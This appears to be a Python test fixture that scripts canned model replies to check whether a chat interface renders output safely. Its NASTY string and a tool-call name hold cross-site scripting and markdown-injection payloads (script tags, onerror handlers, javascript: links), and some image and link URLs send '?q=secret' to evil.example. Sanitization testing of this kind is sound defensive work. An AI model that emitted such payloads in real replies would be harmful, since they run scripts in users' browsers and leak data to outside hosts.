"""What a model says in the windows' conversations."""

from evals.standin.script import Call, Outcome, Reply, Request, Slow

NASTY = """\
<script>window.ran = true</script> <img src="https://evil.example/a.png" onerror="window.ran = true">
![stolen](https://evil.example/b.png?q=secret) [click](javascript:window.ran=true) [here](https://evil.example/?q=secret)

| <b onclick="window.ran = true">a</b> | b |
| ---: | --- |
| ![x](//evil.example/c.png) | [c](data:text/html,x) |
"""
PARAGRAPHS = 60
LONG = "\n\n".join(["A paragraph of a long answer, with **bold** words."] * PARAGRAPHS)
SCRIPT: dict[str, Outcome] = {
    "Say something nasty": Reply(text=NASTY, reasoning="<img src=x onerror='window.ran = 5'>"),
    "Say a lot": Reply(text=LONG),
    "Take your time": Slow(3, Reply(text="Here I am.")),
    "Take forever": Slow(120, Reply(text="Too late.")),
    "Take for ever": Slow(120, Reply(text="Too late, too.")),
    "Call something nasty": Reply(calls=(Call("<script>window.ran = 6</script>", {"a": "<b>bold</b>"}),)),
}


def scripted(request: Request) -> Outcome:
    if any(message.role == "tool" for message in request.since_the_person_spoke):
        return Reply(text="That did not work.")
    asked = [message.text for message in request.messages if message.role == "user"][-1]
    return SCRIPT[asked]
